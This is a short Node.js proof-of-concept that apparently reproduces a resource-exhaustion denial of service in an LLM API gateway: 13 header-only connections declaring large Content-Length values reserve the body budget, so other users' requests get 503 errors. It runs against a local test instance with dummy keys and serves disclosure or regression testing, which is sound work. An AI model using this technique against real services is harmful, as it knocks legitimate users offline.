// 12 x 10 MiB + 1 x 8 MiB = 128 MiB exactly.
// With the DEFAULT limits (maxBodyBytes 10 MiB, maxBodyBytesInFlight 128 MiB), 13 connections that send only request
// headers declaring Content-Length: 10485760 (and not one body byte) reserve the whole body budget; every other
// caller's ordinary 200-byte chat request is refused 503 gateway_overloaded until requestTimeoutMs (30 s) kills them.
// The attacker can then reconnect and repeat.
import net from 'node:net';
import { rawUpstream, startGw, post, chatBody, completion, rawResponse } from './lib.mjs';
const up = await rawUpstream((socket) => socket.write(rawResponse(200, ['content-type: application/json'], completion())));
process.env.GK = 'gk-abcdefgh12345678';
const g = await startGw([{ name: 'a', baseUrl: up.url, apiKey: 'sk-test-aaaaaaaaaaaaaaaaaaaa' }], { allowUnauthenticated: false, gatewayKeys: [{ env: 'GK' }] });
const port = new URL(g.url).port;
const auth = { authorization: 'Bearer gk-abcdefgh12345678' };
const probe = async (label) => { const r = await post(g.url + '/v1/chat/completions', chatBody, auth); console.log(label.padEnd(58), r.status, r.body.toString().slice(0, 110)); };
await probe('before');
const socks = [];
for (let i = 0; i < 13; i++) {
  const s = net.connect(port, '127.0.0.1', () => s.write(`POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer gk-abcdefgh12345678\r\ncontent-type: application/json\r\ncontent-length: ${i < 12 ? 10485760 : 8388608}\r\n\r\n`));
  s.on('error', () => {}); s.on('data', () => {}); socks.push(s);
}
await new Promise((r) => setTimeout(r, 300));
await probe('13 idle header-only connections open (0 body bytes sent)');
await new Promise((r) => setTimeout(r, 5000));
await probe('5 s later');
socks.forEach((s) => s.destroy());
await new Promise((r) => setTimeout(r, 300));
await probe('after the 13 sockets are closed');
await g.close(100); up.server.close(); process.exit(0);
